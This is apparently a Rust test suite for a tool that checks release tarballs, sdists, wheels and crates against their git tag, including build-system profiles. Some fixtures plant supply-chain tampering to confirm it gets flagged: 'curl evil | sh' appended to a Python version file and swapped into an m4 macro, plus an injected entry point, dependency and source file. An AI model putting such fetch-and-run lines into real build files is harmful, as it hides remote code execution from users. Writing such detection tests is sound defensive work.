    let bad = f.policy_file(&rule(&sha256_hex(b"something else\n")));
    let r = f.check(&t, &["--tag", "v1.0", "--policy", bad.to_str().unwrap()]);
    r.assert_report(1, "fail")
        .assert_findings(&[("GENERATED.txt", "extra", "unexpected")]);
    let reason = r.finding("GENERATED.txt", "extra")["reason"]
        .as_str()
        .unwrap();
    assert!(reason.contains("pinned"), "{r}");
    // Not accepted: nothing vouches for it.
    assert!(
        r.finding("GENERATED.txt", "extra")["vouched_by"].is_null(),
        "{r}"
    );
}

#[test]
fn policy_stale_rule_reported() {
    let f = Fixture::standard();
    let t = f.tar_v1();
    let p = f.policy_file(
        "[[rule]]\npath = \"NEWS.generated\"\nallow = [\"extra\"]\nreason = \"old release script output\"\n",
    );
    let r = f.check(&t, &["--tag", "v1.0", "--policy", p.to_str().unwrap()]);
    r.assert_clean_pass();
    let stale = r.json["policy"]["stale_rules"].as_array().unwrap();
    assert_eq!(stale.len(), 1, "{r}");
    assert_eq!(stale[0]["rule"], "policy:1");
    assert_eq!(stale[0]["path"], "NEWS.generated");
    r.assert_text_mentions("STALE")
        .assert_text_mentions("NEWS.generated");
}

#[test]
fn policy_in_the_tags_tree_is_honoured() {
    let f = Fixture::new();
    f.populate_standard();
    f.write(
        ".tarseal.toml",
        "[[rule]]\npath = \"GENERATED.txt\"\nallow = [\"extra\"]\nreason = \"release notes rendered by CI\"\n",
    );
    f.commit("c");
    f.tag("v1.0");
    let t = with_generated(&f);
    let r = f.check(&t, &TAG);
    r.assert_report(0, "pass")
        .assert_findings(&[("GENERATED.txt", "extra", "allowed")]);
    assert_eq!(r.finding("GENERATED.txt", "extra")["rule"], "policy:1");
    let sources = r.json["policy"]["sources"].as_array().unwrap();
    assert!(
        sources
            .iter()
            .any(|s| s.as_str().unwrap().contains(".tarseal.toml")),
        "{r}"
    );
}

#[test]
fn policy_in_the_tarball_is_not_honoured() {
    let f = Fixture::standard();
    let t = altered(&f, |d| {
        fs::write(d.join("GENERATED.txt"), GEN).unwrap();
        fs::write(
            d.join(".tarseal.toml"),
            "[[rule]]\npath = \"**\"\nallow = [\"extra\"]\nreason = \"anything goes\"\n",
        )
        .unwrap();
    });
    f.check(&t, &TAG)
        .assert_report(1, "fail")
        .assert_findings(&[
            ("GENERATED.txt", "extra", "unexpected"),
            (".tarseal.toml", "extra", "unexpected"),
        ]);
}

#[test]
fn policy_rule_without_reason_is_a_usage_error() {
    let f = Fixture::standard();
    let t = with_generated(&f);
    let missing = f.policy_file("[[rule]]\npath = \"GENERATED.txt\"\nallow = [\"extra\"]\n");
    let r = f.check(
        &t,
        &["--tag", "v1.0", "--policy", missing.to_str().unwrap()],
    );
    r.assert_code(2).assert_stderr_mentions("reason");
    let empty =
        f.policy_file("[[rule]]\npath = \"GENERATED.txt\"\nallow = [\"extra\"]\nreason = \"  \"\n");
    let r = f.check(&t, &["--tag", "v1.0", "--policy", empty.to_str().unwrap()]);
    r.assert_code(2)
        .assert_stderr_mentions("no reason")
        .assert_stderr_mentions("GENERATED.txt");
}

#[test]
fn unknown_profile_is_a_usage_error() {
    let f = Fixture::standard();
    let r = f.check(&f.tar_v1(), &["--tag", "v1.0", "--profile", "yolo"]);
    r.assert_code(2).assert_stderr_mentions("yolo");
}

// ---------------------------------------------------------------------------------------------
// Profiles: pbr.
// ---------------------------------------------------------------------------------------------

const SETUP_CFG: &str = "[metadata]\nname = proj\nsummary = A project\nclassifier =\n    Programming Language :: Python\n    License :: OSI Approved\n\n[entry_points]\nconsole_scripts =\n    proj-api = proj.cmd.api:main\n";

fn pbr_fixture() -> Fixture {
    let f = Fixture::new();
    f.write("setup.cfg", SETUP_CFG);
    f.write(
        "setup.py",
        "import setuptools\nsetuptools.setup(pbr=True)\n",
    );
    f.write("proj/__init__.py", "");
    f.write("proj/cmd/api.py", "def main():\n    pass\n");
    f.write(".gitreview", "[gerrit]\nhost=review.example.org\n");
    f.commit("c");
    f.tag("1.0.0");
    f
}

/// An sdist as pbr writes it. `setup_cfg` and `version` vary per test.
fn pbr_sdist(f: &Fixture, setup_cfg: &str, version: &str) -> std::path::PathBuf {
    let tree = f.extract(&f.archive("1.0.0", "proj-1.0.0", "tar", "git.tar"));
    let d = tree.join("proj-1.0.0");
    fs::remove_file(d.join(".gitreview")).unwrap();
    let pkg_info =
        format!("Metadata-Version: 2.1\nName: proj\nVersion: {version}\nSummary: A project\n\nlong description\n");
    fs::write(d.join("PKG-INFO"), &pkg_info).unwrap();
    fs::create_dir(d.join("proj.egg-info")).unwrap();
    fs::write(d.join("proj.egg-info/PKG-INFO"), &pkg_info).unwrap();
    fs::write(
        d.join("proj.egg-info/SOURCES.txt"),
        "setup.cfg\nsetup.py\nproj/__init__.py\n",
    )
    .unwrap();
    fs::write(
        d.join("proj.egg-info/entry_points.txt"),
        "[console_scripts]\nproj-api = proj.cmd.api:main\n",
    )
    .unwrap();
    fs::write(d.join("proj.egg-info/top_level.txt"), "proj\n").unwrap();
    fs::write(
        d.join("proj.egg-info/pbr.json"),
        format!(
            "{{\"git_version\": \"{}\", \"is_release\": true}}",
            &f.rev("HEAD")[..7]
        ),
    )
    .unwrap();
    fs::write(d.join("AUTHORS"), "Ada Author <ada@example.org>\n").unwrap();
    // What pbr writes for the fixture's one commit, tagged 1.0.0, by Ada Author.
    fs::write(
        d.join("ChangeLog"),
        "CHANGES\n=======\n\n1.0.0\n-----\n\n* c\n",
    )
    .unwrap();
    fs::write(d.join("setup.cfg"), setup_cfg).unwrap();
    f.pack(&tree, "proj-1.0.0", "pax", "proj-1.0.0.tar.gz")
}

/// setup.cfg as setuptools writes it back: `=` everywhere, tab-indented continuation lines,
/// an `[egg_info]` section.
const SETUP_CFG_SDIST: &str = "[metadata]\nname = proj\nsummary = A project\nclassifier = \n\tProgramming Language :: Python\n\tLicense :: OSI Approved\n\n[entry_points]\nconsole_scripts = \n\tproj-api = proj.cmd.api:main\n\n[egg_info]\ntag_build = \ntag_date = 0\n\n";

const SCM_VERSION_FILE: &str = "# file generated by setuptools-scm\n# don't change, don't track in version control\n\n__all__ = [\"__version__\", \"__version_tuple__\", \"version\", \"version_tuple\"]\n\nTYPE_CHECKING = False\nif TYPE_CHECKING:\n    from typing import Tuple\n    from typing import Union\n\n    VERSION_TUPLE = Tuple[Union[int, str], ...]\nelse:\n    VERSION_TUPLE = object\n\nversion: str\n__version__: str\n__version_tuple__: VERSION_TUPLE\nversion_tuple: VERSION_TUPLE\n\n__version__ = version = '1.6.0'\n__version_tuple__ = version_tuple = (1, 6, 0)\n";

/// A setuptools-scm project shaped like pluggy 1.6.0: no setup.cfg in git, a version file
/// declared in pyproject.toml.
fn scm_sdist(version_file: &str) -> (Fixture, std::path::PathBuf) {
    let f = Fixture::new();
    f.write(
        "pyproject.toml",
        "[build-system]\nrequires = [\"setuptools\", \"setuptools-scm\"]\n\n[tool.setuptools_scm]\nversion_file = \"src/pkg/_version.py\"\n",
    );
    f.write("src/pkg/__init__.py", "from ._version import version\n");
    f.write(".gitignore", "src/pkg/_version.py\n");
    f.commit("c");
    f.tag("1.6.0");
    let tree = f.extract(&f.archive("1.6.0", "pkg-1.6.0", "tar", "git.tar"));
    let d = tree.join("pkg-1.6.0");
    let pkg_info = "Metadata-Version: 2.4\nName: pkg\nVersion: 1.6.0\n\n";
    fs::write(d.join("PKG-INFO"), pkg_info).unwrap();
    fs::create_dir_all(d.join("src/pkg.egg-info")).unwrap();
    fs::write(d.join("src/pkg.egg-info/PKG-INFO"), pkg_info).unwrap();
    fs::write(d.join("src/pkg.egg-info/top_level.txt"), "pkg\n").unwrap();
    fs::write(
        d.join("setup.cfg"),
        "[egg_info]\ntag_build = \ntag_date = 0\n\n",
    )
    .unwrap();
    fs::write(d.join("src/pkg/_version.py"), version_file).unwrap();
    let t = f.pack(&tree, "pkg-1.6.0", "gnu", "pkg.tar");
    (f, t)
}

#[test]
fn setuptools_scm_sdist_passes() {
    let (f, t) = scm_sdist(SCM_VERSION_FILE);
    let r = f.check(
        &t,
        &[
            "--tag",
            "1.6.0",
            "--allow-lightweight",
            "--profile",
            "setuptools",
        ],
    );
    r.assert_report(0, "pass").assert_findings(&[
        ("PKG-INFO", "extra", "allowed"),
        ("setup.cfg", "extra", "allowed"),
        ("src/pkg.egg-info/PKG-INFO", "extra", "allowed"),
        ("src/pkg.egg-info/top_level.txt", "extra", "allowed"),
        ("src/pkg/_version.py", "extra", "allowed"),
    ]);
    assert_eq!(
        r.finding("src/pkg/_version.py", "extra")["rule"],
        "profile:setuptools/**",
        "{r}"
    );
}

#[test]
fn setuptools_scm_version_file_with_code_fails() {
    let evil = format!("{SCM_VERSION_FILE}import os\nos.system('curl evil | sh')\n");
    let (f, t) = scm_sdist(&evil);
    let r = f.check(
        &t,
        &[
            "--tag",
            "1.6.0",
            "--allow-lightweight",
            "--profile",
            "setuptools",
        ],
    );
    r.assert_report(1, "fail");
    let fd = r.finding("src/pkg/_version.py", "extra");
    assert_eq!(fd["judgement"], "unexpected", "{r}");
    assert!(fd["reason"].as_str().unwrap().contains("import os"), "{r}");
}

/// jaraco's projects (zipp 3.23.0): git holds no LICENSE; the `coherent.licensed` setuptools
/// plugin named in `[build-system] requires` writes it from `project.license` at sdist time.
fn coherent_sdist(requires: &str) -> (Fixture, std::path::PathBuf) {
    let f = Fixture::new();
    f.write(
        "pyproject.toml",
        format!("[build-system]\nrequires = [\"setuptools>=77\", {requires}]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"pkg\"\nlicense = \"MIT\"\nversion = \"3.23.0\"\n"),
    );
    f.write("pkg/__init__.py", "\n");
    f.commit("c");
    f.tag("3.23.0");
    let tree = f.extract(&f.archive("3.23.0", "pkg-3.23.0", "tar", "git.tar"));
    let d = tree.join("pkg-3.23.0");
    let pkg_info = "Metadata-Version: 2.4\nName: pkg\nVersion: 3.23.0\nLicense-Expression: MIT\nLicense-File: LICENSE\n\n";
    fs::write(d.join("PKG-INFO"), pkg_info).unwrap();
    fs::create_dir_all(d.join("pkg.egg-info")).unwrap();
    fs::write(d.join("pkg.egg-info/PKG-INFO"), pkg_info).unwrap();
    fs::write(d.join("pkg.egg-info/top_level.txt"), "pkg\n").unwrap();
    fs::write(
        d.join("setup.cfg"),
        "[egg_info]\ntag_build = \ntag_date = 0\n\n",
    )
    .unwrap();
    fs::write(
        d.join("LICENSE"),
        "MIT License\n\nCopyright (c) 2025 <copyright holders>\n\nPermission is hereby granted, free of charge, ...\n",
    )
    .unwrap();
    let t = f.pack(&tree, "pkg-3.23.0", "gnu", "pkg.tar");
    (f, t)
}

#[test]
fn coherent_licensed_license_allowed_only_when_the_plugin_is_required() {
    let args = ["--tag", "3.23.0", "--allow-lightweight"];
    let (f, t) = coherent_sdist("\"coherent.licensed\"");
    let r = f.check(&t, &args);
    r.assert_report(0, "pass");
    assert_eq!(r.json["policy"]["profile"], "setuptools", "{r}");
    let fd = r.finding("LICENSE", "extra");
    assert_eq!(fd["judgement"], "allowed", "{r}");
    assert_eq!(fd["rule"], "profile:setuptools/LICENSE", "{r}");
    // Text nobody can compare with git: it stays in the trust surface.
    r.assert_text_mentions("coherent.licensed");

    // Without the plugin nothing writes LICENSE: the same file is unexpected.
    let (f, t) = coherent_sdist("\"setuptools-scm\"");
    let r = f.check(&t, &args);
    r.assert_report(1, "fail");
    assert_eq!(
        r.finding("LICENSE", "extra")["judgement"],
        "unexpected",
        "{r}"
    );
}

/// zipp 3.23.0's wheel: setuptools copies coherent.licensed's LICENSE into
/// `.dist-info/licenses/`; no file of the tag holds it.
#[test]
fn coherent_licensed_license_in_a_wheel() {
    let make = |requires: &str, name: &str| {
        let (f, _) = coherent_sdist(requires);
        let whl = f.scratch(name);
        let py = r#"
import zipfile, hashlib, base64, sys
d = "pkg-3.23.0.dist-info/"
files = {
    "pkg/__init__.py": b"\n",
    d + "METADATA": b"Metadata-Version: 2.4\nName: pkg\nVersion: 3.23.0\nLicense-Expression: MIT\nLicense-File: LICENSE\n\n",
    d + "WHEEL": b"Wheel-Version: 1.0\nGenerator: setuptools (80.9.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n\n",
    d + "top_level.txt": b"pkg\n",
    d + "licenses/LICENSE": b"MIT License\n\nCopyright (c) 2025 <copyright holders>\n",
}
lines = []
for n, b in files.items():
    h = base64.urlsafe_b64encode(hashlib.sha256(b).digest()).rstrip(b"=").decode()
    lines.append("%s,sha256=%s,%d" % (n, h, len(b)))
lines.append(d + "RECORD,,")
files[d + "RECORD"] = ("\n".join(lines) + "\n").encode()
with zipfile.ZipFile(sys.argv[1], "w") as z:
    for n, b in files.items():
        z.writestr(n, b)
"#;
        run_ok(
            std::process::Command::new("python3")
                .arg("-c")
                .arg(py)
                .arg(&whl),
        );
        (f, whl)
    };
    let args = ["--tag", "3.23.0", "--allow-lightweight"];
    let lic = "pkg-3.23.0.dist-info/licenses/LICENSE";
    let (f, whl) = make("\"coherent.licensed\"", "ok.whl");
    let r = f.check(&whl, &args);
    r.assert_report(0, "pass");
    assert_eq!(r.json["policy"]["profile"], "wheel", "{r}");
    assert_eq!(r.finding(lic, "extra")["judgement"], "allowed", "{r}");
    let (f, whl) = make("\"setuptools-scm\"", "bad.whl");
    let r = f.check(&whl, &args);
    r.assert_report(1, "fail");
    assert_eq!(r.finding(lic, "extra")["judgement"], "unexpected", "{r}");
}

#[test]
fn pbr_sdist_passes() {
    let f = pbr_fixture();
    let t = pbr_sdist(&f, SETUP_CFG_SDIST, "1.0.0");
    let r = f.check(&t, &["--tag", "1.0.0", "--profile", "pbr"]);
    r.assert_report(0, "pass").assert_findings(&[
        (".gitreview", "missing", "allowed"),
        ("AUTHORS", "extra", "allowed"),
        ("ChangeLog", "extra", "allowed"),
        ("PKG-INFO", "extra", "allowed"),
        ("proj.egg-info/PKG-INFO", "extra", "allowed"),
        ("proj.egg-info/SOURCES.txt", "extra", "allowed"),
        ("proj.egg-info/entry_points.txt", "extra", "allowed"),
        ("proj.egg-info/top_level.txt", "extra", "allowed"),
        ("proj.egg-info/pbr.json", "extra", "allowed"),
        ("setup.cfg", "modified", "allowed"),
    ]);
    assert_eq!(
        r.finding("setup.cfg", "modified")["rule"],
        "profile:pbr/setup.cfg"
    );
    assert_eq!(
        r.finding("PKG-INFO", "extra")["rule"],
        "profile:pbr/PKG-INFO"
    );
    for c in r.cross_checks() {
        assert_eq!(c["status"], "ok", "{r}");
    }
    assert!(
        r.cross_checks()
            .iter()
            .any(|c| c["name"].as_str().unwrap().starts_with("pbr-pkg-info")),
        "{r}"
    );
    // Without --profile (auto) pbr is chosen from the tree's setup.cfg, saying why.
    let auto = f.check(&t, &["--tag", "1.0.0"]);
    auto.assert_report(0, "pass");
    assert_eq!(auto.json["policy"]["profile"], "pbr", "{auto}");
    let why = auto.json["policy"]["selection"].as_str().unwrap();
    assert!(why.starts_with("auto:") && why.contains("pbr"), "{why}");
    auto.assert_text_mentions("profile  pbr (auto:");
    // The exact profile refuses the very same sdist, and names the profile that explains it.
    let exact = f.check(&t, &["--tag", "1.0.0", "--profile", "git-archive"]);
    exact.assert_report(1, "fail");
    let hint = exact.json["policy"]["hint"].as_str().unwrap_or_default();
    assert!(hint.contains("--profile pbr"), "{exact}");
    exact.assert_text_mentions("try `--profile pbr`");
}

#[test]
fn pbr_sdist_with_new_entry_point_fails() {
    let f = pbr_fixture();
    let cfg = SETUP_CFG_SDIST.replace(
        "\tproj-api = proj.cmd.api:main\n",
        "\tproj-api = proj.cmd.api:main\n\tproj-evil = proj.evil:main\n",
    );
    let t = pbr_sdist(&f, &cfg, "1.0.0");
    let r = f.check(&t, &["--tag", "1.0.0", "--profile", "pbr"]);
    r.assert_report(1, "fail");
    let fd = r.finding("setup.cfg", "modified");
    assert_eq!(fd["judgement"], "unexpected", "{r}");
    assert!(
        fd["reason"].as_str().unwrap().contains("console_scripts"),
        "says what changed\n{r}"
    );
    // Everything else is still allowed.
    for x in r.findings() {
        if x["path"] != "setup.cfg" {
            assert_eq!(x["judgement"], "allowed", "{r}");
        }
    }
}

#[test]
fn pbr_sdist_with_other_version_fails() {
    let f = pbr_fixture();
    let t = pbr_sdist(&f, SETUP_CFG_SDIST, "1.0.1");
    let r = f.check(&t, &["--tag", "1.0.0", "--profile", "pbr"]);
    r.assert_report(1, "fail");
    let fd = r.finding("PKG-INFO", "extra");
    assert_eq!(fd["judgement"], "unexpected", "{r}");
    assert!(fd["reason"].as_str().unwrap().contains("1.0.1"), "{r}");
    assert!(
        r.cross_checks().iter().any(|c| c["status"] == "failed"),
        "{r}"
    );
}

// ---------------------------------------------------------------------------------------------
// Profiles: cargo.
// ---------------------------------------------------------------------------------------------

const CARGO_TOML: &str = "[package]\nname = \"proj\"\nversion = \"1.0.0\"\nedition = \"2021\"\n\n[dependencies]\nserde = \"1\"\n";

const CARGO_TOML_NORMALISED: &str = "# THIS FILE IS AUTOMATICALLY GENERATED BY CARGO\n[package]\nedition = \"2021\"\nname = \"proj\"\nversion = \"1.0.0\"\nbuild = false\nautobins = false\n\n[lib]\nname = \"proj\"\npath = \"src/lib.rs\"\n\n[dependencies.serde]\nversion = \"1\"\n";

fn cargo_fixture() -> Fixture {
    let f = Fixture::new();
    f.write("Cargo.toml", CARGO_TOML);
    f.write("src/lib.rs", "pub fn f() {}\n");
    f.write(".gitignore", "/target\n");
    f.commit("c");
    f.tag("v1.0.0");
    f
}

fn crate_file(f: &Fixture, orig: &str, sha1: &str) -> std::path::PathBuf {
    let vcs =
        format!("{{\n  \"git\": {{\n    \"sha1\": \"{sha1}\"\n  }},\n  \"path_in_vcs\": \"\"\n}}");
    crate_file_with_vcs_info(f, orig, &vcs)
}

fn crate_file_with_vcs_info(f: &Fixture, orig: &str, vcs_info: &str) -> std::path::PathBuf {
    let tree = f.extract(&f.archive("v1.0.0", "proj-1.0.0", "tar", "git.tar"));
    let d = tree.join("proj-1.0.0");
    fs::remove_file(d.join(".gitignore")).unwrap();
    fs::write(d.join("Cargo.toml"), CARGO_TOML_NORMALISED).unwrap();
    fs::write(d.join("Cargo.toml.orig"), orig).unwrap();
    fs::write(d.join(".cargo_vcs_info.json"), vcs_info).unwrap();
    fs::write(
        d.join("Cargo.lock"),
        "version = 4\n\n[[package]]\nname = \"proj\"\nversion = \"1.0.0\"\n",
    )
    .unwrap();
    let t = f.pack(&tree, "proj-1.0.0", "gnu", "proj.tar");
    copy_as(&compress(&t, "gzip"), "proj-1.0.0.crate")
}

#[test]
fn cargo_crate_passes() {
    let f = cargo_fixture();
    let t = crate_file(&f, CARGO_TOML, &f.rev("v1.0.0^{commit}"));
    let r = f.check(&t, &["--tag", "v1.0.0", "--profile", "cargo"]);
    r.assert_report(0, "pass").assert_findings(&[
        ("Cargo.toml", "modified", "allowed"),
        ("Cargo.toml.orig", "extra", "allowed"),
        (".cargo_vcs_info.json", "extra", "allowed"),
        ("Cargo.lock", "extra", "allowed"),
        (".gitignore", "missing", "allowed"),
    ]);
    assert_eq!(r.cross_check("cargo-vcs-info")["status"], "ok", "{r}");
    // cargo's exact bytes are reproduced; Cargo.toml.orig is git's blob; the lock file is the
    // one file left on the policy's word.
    assert_eq!(
        r.finding(".cargo_vcs_info.json", "extra")["vouched_by"],
        "reproduced",
        "{r}"
    );
    assert_eq!(
        r.finding("Cargo.toml.orig", "extra")["vouched_by"],
        "git",
        "{r}"
    );
    assert_eq!(
        r.finding("Cargo.toml", "modified")["vouched_by"],
        "content-check",
        "{r}"
    );
    assert_eq!(
        r.json["trust_surface"]["paths"],
        serde_json::json!(["Cargo.lock"]),
        "{r}"
    );
}

#[test]
fn cargo_vcs_info_names_another_commit() {
    let f = cargo_fixture();
    let other = "0123456789abcdef0123456789abcdef01234567";
    let t = crate_file(&f, CARGO_TOML, other);
    let r = f.check(&t, &["--tag", "v1.0.0", "--profile", "cargo"]);
    r.assert_report(1, "fail");
    let fd = r.finding(".cargo_vcs_info.json", "extra");
    assert_eq!(fd["judgement"], "unexpected", "{r}");
    assert!(fd["reason"].as_str().unwrap().contains(other), "{r}");
    assert_eq!(r.cross_check("cargo-vcs-info")["status"], "failed", "{r}");
}

#[test]
fn cargo_vcs_info_dirty_work_tree() {
    // cargo package --allow-dirty records "dirty": true: the crate holds uncommitted changes.
    let f = cargo_fixture();
    let sha1 = f.rev("v1.0.0^{commit}");
    let vcs =
        format!("{{\"git\": {{\"sha1\": \"{sha1}\", \"dirty\": true}}, \"path_in_vcs\": \"\"}}");
    let t = crate_file_with_vcs_info(&f, CARGO_TOML, &vcs);
    let r = f.check(&t, &["--tag", "v1.0.0", "--profile", "cargo"]);
    r.assert_report(1, "fail");
    let fd = r.finding(".cargo_vcs_info.json", "extra");
    assert_eq!(fd["judgement"], "unexpected", "{r}");
    assert!(fd["reason"].as_str().unwrap().contains("dirty"), "{r}");
}

#[test]
fn cargo_toml_orig_differs() {
    let f = cargo_fixture();
    let orig = CARGO_TOML.replace("serde = \"1\"", "serde = \"1\"\nevil = \"0.1\"");
    let t = crate_file(&f, &orig, &f.rev("v1.0.0^{commit}"));
    let r = f.check(&t, &["--tag", "v1.0.0", "--profile", "cargo"]);
    r.assert_report(1, "fail");
    assert_eq!(
        r.finding("Cargo.toml.orig", "extra")["judgement"],
        "unexpected",
        "{r}"
    );
    assert_eq!(
        r.finding("Cargo.toml", "modified")["judgement"],
        "unexpected",
        "{r}"
    );
}

// ---------------------------------------------------------------------------------------------
// Profiles: autotools.
// ---------------------------------------------------------------------------------------------

const M4_IN_GIT: &str = "dnl serial 3\nAC_DEFUN([PROJ_CHECK], [true])\n";

fn autotools_fixture() -> Fixture {
    let f = Fixture::new();
    f.write("configure.ac", "AC_INIT([proj], [1.0])\nAC_OUTPUT\n");
    f.write("Makefile.am", "SUBDIRS = src\n");
    f.write("src/main.c", "int main(void) { return 0; }\n");
    f.write("m4/proj-check.m4", M4_IN_GIT);
    f.commit("c");
    f.tag("v1.0");
    f
}

fn make_dist(f: &Fixture, change: impl FnOnce(&Path)) -> std::path::PathBuf {
    let tree = f.extract_v1();
    let d = tree.join("proj-1.0");
    write_file(&d.join("configure"), b"#!/bin/sh\n# generated\n", 0o755);
    fs::write(d.join("Makefile.in"), "# generated by automake\n").unwrap();
    fs::write(d.join("aclocal.m4"), "# generated by aclocal\n").unwrap();
    write_file(&d.join("build-aux/install-sh"), b"#!/bin/sh\n", 0o755);
    change(&d);
    let t = f.pack(&tree, "proj-1.0", "ustar", "proj-1.0.tar");
    compress(&t, "xz")
}

#[test]
fn autotools_generated_files_allowed() {
    let f = autotools_fixture();
    let t = make_dist(&f, |_| {});
    let r = f.check(&t, &["--tag", "v1.0", "--profile", "autotools"]);
    r.assert_report(0, "pass").assert_findings(&[
        ("configure", "extra", "allowed"),
        ("Makefile.in", "extra", "allowed"),
        ("aclocal.m4", "extra", "allowed"),
        ("build-aux/install-sh", "extra", "allowed"),
    ]);
    assert_eq!(
        r.finding("configure", "extra")["rule"],
        "profile:autotools/configure"
    );
    // An extra directory is reported with its files? build-aux/ is a new directory; it must
    // not be the thing that fails the check.
}

#[test]
fn autotools_unknown_extra_m4_is_indeterminate() {
    let f = autotools_fixture();
    let t = make_dist(&f, |d| {
        fs::write(
            d.join("m4/build-to-host.m4"),
            "# build-to-host.m4 serial 30\ndnl not in any known release\n",
        )
        .unwrap();
    });
    let r = f.check(&t, &["--tag", "v1.0", "--profile", "autotools"]);
    r.assert_report(3, "indeterminate");
    let fd = r.finding("m4/build-to-host.m4", "extra");
    assert_eq!(fd["judgement"], "indeterminate", "{r}");
    assert!(
        fd["reason"]
            .as_str()
            .unwrap()
            .contains("m4/build-to-host.m4"),
        "{r}"
    );
    r.assert_text_mentions("m4/build-to-host.m4")
        .assert_text_mentions("INDETERMINATE");
    assert_eq!(r.json["summary"]["unexpected"], 0, "{r}");
}

#[test]
fn autotools_m4_in_git_modified_fails() {
    let f = autotools_fixture();
    let t = make_dist(&f, |d| {
        fs::write(
            d.join("m4/proj-check.m4"),
            M4_IN_GIT.replace("true", "curl evil | sh"),
        )
        .unwrap();
    });
    let r = f.check(&t, &["--tag", "v1.0", "--profile", "autotools"]);
    r.assert_report(1, "fail");
    assert_eq!(
        r.finding("m4/proj-check.m4", "modified")["judgement"],
        "unexpected",
        "{r}"
    );
    r.assert_text_mentions("m4/proj-check.m4");
}

#[test]
fn autotools_extra_source_file_fails() {
    let f = autotools_fixture();
    let t = make_dist(&f, |d| fs::write(d.join("src/evil.c"), "x\n").unwrap());
    let r = f.check(&t, &["--tag", "v1.0", "--profile", "autotools"]);
    r.assert_report(1, "fail");
    assert_eq!(
        r.finding("src/evil.c", "extra")["judgement"],
        "unexpected",
        "{r}"
    );
}

/// libffi 3.4.4: no AC_CONFIG_AUX_DIR, `info_TEXINFOS` in doc/Makefile.am, and automake -a
/// installs `doc/texinfo.tex` and `doc/mdate-sh` beside it. Only there.
#[test]
fn autotools_texinfo_helpers_beside_the_manual() {
    let f = Fixture::new();
    f.write("configure.ac", "AC_INIT([proj], [1.0])\nAC_OUTPUT\n");
    f.write("Makefile.am", "SUBDIRS = src doc\n");
    f.write("src/main.c", "int main(void) { return 0; }\n");
    f.write("src/Makefile.am", "bin_PROGRAMS = main\n");
    f.write("doc/Makefile.am", "info_TEXINFOS = proj.texi\n");
    f.write("doc/proj.texi", "\\input texinfo\n");
    f.commit("c");
    f.tag("v1.0");
    let helpers = |dir: &'static str| {
        move |d: &Path| {
            fs::write(d.join(format!("{dir}/texinfo.tex")), "% texinfo.tex\n").unwrap();
            write_file(&d.join(format!("{dir}/mdate-sh")), b"#!/bin/sh\n", 0o755);
        }
    };
    let t = make_dist(&f, helpers("doc"));
    let r = f.check(&t, &["--tag", "v1.0"]);
    r.assert_report(0, "pass");
    assert_eq!(r.json["policy"]["profile"], "autotools", "{r}");
    for p in ["doc/texinfo.tex", "doc/mdate-sh"] {
        assert_eq!(r.finding(p, "extra")["judgement"], "allowed", "{r}");
    }
    // src/Makefile.am lists no manual: automake puts nothing there.
    let t = make_dist(&f, helpers("src"));
    let r = f.check(&t, &["--tag", "v1.0"]);
    r.assert_report(1, "fail");
    for p in ["src/texinfo.tex", "src/mdate-sh"] {
        assert_eq!(r.finding(p, "extra")["judgement"], "unexpected", "{r}");
    }
}

// ---------------------------------------------------------------------------------------------
// Long names, and a profile named by the tag's own policy.
// ---------------------------------------------------------------------------------------------

#[test]
fn long_names_in_every_tar_dialect() {
    let f = Fixture::new();
    f.populate_standard();
    let long = format!("{}/{}.txt", "d".repeat(120), "n".repeat(140));
    f.write(&long, "deep\n");
    f.symlink("l", &long);
    f.commit("c");
    f.tag("v1.0");
    let t = f.tar_v1(); // git archive: pax headers
    let r = f.check(&t, &TAG);
    r.assert_clean_pass();
    assert_eq!(r.json["summary"]["matched"], 8, "{r}");
    let tree = f.extract(&t);
    for format in ["gnu", "pax"] {
        let t = f.pack(&tree, "proj-1.0", format, &format!("{format}.tar"));
        f.check(&t, &TAG).assert_clean_pass();
    }
    // A modified long-named file is named in full.
    let t = altered(&f, |d| fs::write(d.join(&long), "DEEP\n").unwrap());
    let r = f.check(&t, &TAG);
    r.assert_report(1, "fail")
        .assert_findings(&[(long.as_str(), "modified", "unexpected")])
        .assert_text_mentions(&long);
}

#[test]
fn profile_named_by_tree_policy() {
    let f = Fixture::new();
    f.write("configure.ac", "AC_INIT([proj], [1.0])\n");
    f.write("src/main.c", "int main(void) { return 0; }\n");
    f.write(".tarseal.toml", "profile = \"autotools\"\n");
    f.commit("c");
    f.tag("v1.0");
    let t = altered(&f, |d| {
        write_file(&d.join("configure"), b"#!/bin/sh\n", 0o755);
    });
    let r = f.check(&t, &TAG);
    r.assert_report(0, "pass")
        .assert_findings(&[("configure", "extra", "allowed")]);
    assert_eq!(r.json["policy"]["profile"], "autotools", "{r}");
    // --profile wins over the file's profile.
    f.check(&t, &["--tag", "v1.0", "--profile", "git-archive"])
        .assert_report(1, "fail")
        .assert_findings(&[("configure", "extra", "unexpected")]);
}
